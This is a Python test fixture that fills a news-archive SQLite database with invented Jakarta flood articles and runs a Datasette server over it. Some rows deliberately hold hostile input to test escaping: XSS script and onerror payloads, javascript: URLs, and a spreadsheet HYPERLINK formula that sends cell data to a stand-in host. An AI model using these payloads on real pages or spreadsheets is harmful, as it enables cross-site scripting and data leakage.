"""An archive with a little invented news, some of it hostile, and a Datasette that serves it."""

from __future__ import annotations

import json
import os
import re
import sqlite3
import subprocess
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path
from typing import Any

import scraper

PACKAGE = Path(scraper.__file__).parent
SCHEMA = (PACKAGE / "archive" / "schema.sql").read_text("utf-8")

HOSTILE = "<script>document.title='broken in'</script>\"'><img src=x onerror=\"document.title='broken in'\">\x1b[31m"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"+")'
QUOTE = "Kami siapkan dua belas pompa untuk kawasan ini"
BODY = (
    f'Dinas Sumber Daya Air menyiapkan pompa.\n\n"{QUOTE}," ujar Sari Wulandari, Senin (23/11).\n\n'
    "## Dua lokasi\n\n- Kampung Melati\n\n- Kampung Kenanga"
)


def insert(db: sqlite3.Connection, table: str, **values: Any) -> int:
    """The number of a new row; what it must have and was not given is empty."""
    columns = db.execute(f"PRAGMA table_info({table})").fetchall()
    empty = {name: "" for _, name, _, needed, default, key in columns if needed and default is None and not key}
    row = empty | values
    names = ", ".join(f'"{name}"' for name in row)
    inserted = db.execute(f"INSERT INTO {table} ({names}) VALUES ({', '.join('?' * len(row))})", list(row.values()))
    return inserted.lastrowid or 0


def capture(db: sqlite3.Connection, url: str, at: str) -> int:
    return insert(
        db, "captures", url=url, final_url=url, captured_at=at, status=200, kind="article", publisher="beritajakarta",
        mime="text/html", headers="[]", elapsed_ms=120, digest="00",
    )  # fmt: skip


def article(db: sqlite3.Connection, number: int, headline: str, **values: Any) -> int:
    url = f"https://www.beritajakarta.id/read/{number}/"
    seen = capture(db, url, f"2026-11-23T08:{number:02}:00Z")
    row = {
        "id": number, "url": url, "publisher": "beritajakarta", "headline": headline, "section": "Pemerintahan",
        "region": "DKI Jakarta",
        "published_at": f"2026-11-{number:02}T17:30:00Z", "published_on": f"2026-11-{number + 1:02}",
        "published_raw": f"{number + 1} November 2026 00:30", "zone": "+07:00",
        "tags": json.dumps(["banjir", headline]),
        "views": 1200, "body": BODY, "words": 20, "pages": 1, "state": "live", "capture": seen, "found_by": "{}",
        "first_seen_at": "2026-11-23T08:00:00Z", "last_seen_at": "2026-11-23T09:00:00Z",
    }  # fmt: skip
    insert(db, "articles", **row | values)
    insert(db, "readings", capture=seen, article=number, outcome="article")
    insert(db, "revisions", article=number, number=1, digest="a", headline=headline, body=BODY, bylines="[]",
           credits="[]", first_capture=seen, last_capture=seen)  # fmt: skip
    insert(db, "bylines", article=number, position=1, role="reporter", name="Dewi Anggraini")
    insert(db, "bylines", article=number, position=2, role="editor", name="Bram Sitompul")
    insert(
        db, "photos", article=number, position=1, url="https://cdn.example/p.jpg", caption="Pompa", credit="Istimewa"
    )
    start = values.get("body", BODY).find(QUOTE)
    insert(db, "quotes", article=number, position=1, kind="direct", text=QUOTE, speaker="Sari Wulandari",
           role="Kepala Dinas Sumber Daya Air", affiliation="Dinas Sumber Daya Air", cue="ujar", attribution="name",
           confidence=0.95, paragraph=1, start=start, end=start + len(QUOTE))  # fmt: skip
    return seen


def fill(path: Path) -> None:
    scraper.open_archive(path).close()
    with closing(sqlite3.connect(path)) as db, db:
        insert(db, "payloads", digest="00", codec="identity", size=1, body=b"x")
        insert(db, "publishers", id="beritajakarta", name="Berita Jakarta", region="DKI Jakarta", zone="+07:00",
               home="https://www.beritajakarta.id/")  # fmt: skip
        first = article(db, 1, "Pompa Disiapkan di Dua Kampung", kicker="Banjir")
        article(db, 2, "Pasar Malam Pindah ke Lapangan Baru", state="gone", section="Ekonomi")
        everywhere = dict.fromkeys(("kicker", "section", "dateline", "state", "published_raw", "initials"), HOSTILE)
        source = "javascript:document.title='broken in'"
        article(
            db, 3, HOSTILE, body=f"{HOSTILE}\n\n{HOSTILE}", tags=json.dumps([HOSTILE]), source_url=source, **everywhere
        )
        article(db, 4, FORMULA)
        insert(
            db,
            "links",
            article=1,
            position=1,
            kind="related",
            url="https://www.beritajakarta.id/read/2/",
            title="Pasar Malam",
        )
        insert(db, "links", article=1, position=2, kind="related", url="javascript:alert(1)", title=HOSTILE)
        insert(db, "popular_entries", capture=first, position=1, box="Terpopuler", rank=1, views=900,
               url="https://www.beritajakarta.id/read/2/", title="Pasar Malam Pindah")  # fmt: skip
        insert(db, "problems", capture=first, field="section", kind="ambiguous", detail=HOSTILE)
        insert(db, "people", article=1, position=1, name="Sari Wulandari", role="Kepala Dinas", mentions="[]")
        page = insert(db, "captures", url="https://www.beritajakarta.id/read/1/?page=2", status=200, kind="part",
                      publisher="beritajakarta", headers="[]", elapsed_ms=90, digest="00")  # fmt: skip
        insert(db, "parts", capture=first, url="https://www.beritajakarta.id/read/1/?page=2", part=page)
        later = capture(db, "https://www.beritajakarta.id/read/1/", "2026-11-23T11:00:00Z")
        insert(db, "revisions", article=1, number=2, digest="b", headline="Pompa Disiapkan di Tiga Kampung",
               body=BODY.replace("Dua", "Tiga"), bylines='[["reporter", "Dewi Anggraini"]]', credits="[]",
               first_capture=later, last_capture=later)  # fmt: skip


@contextmanager
def serving(words: list[str]) -> Iterator[str]:
    """The address of a Datasette that runs meanwhile."""
    environment = {**os.environ, "PYTHONPATH": str(PACKAGE.parent), "PYTHONUNBUFFERED": "1"}
    with subprocess.Popen(words, stderr=subprocess.PIPE, text=True, env=environment) as server:
        assert server.stderr is not None
        log = []
        for line in server.stderr:
            log.append(line)
            if started := re.search(r"running on (http://127\.0\.0\.1:\d+)", line):
                break
        else:
            raise AssertionError("".join(log))
        try:
            yield started[1]
        finally:
            server.terminate()
            server.stderr.read()
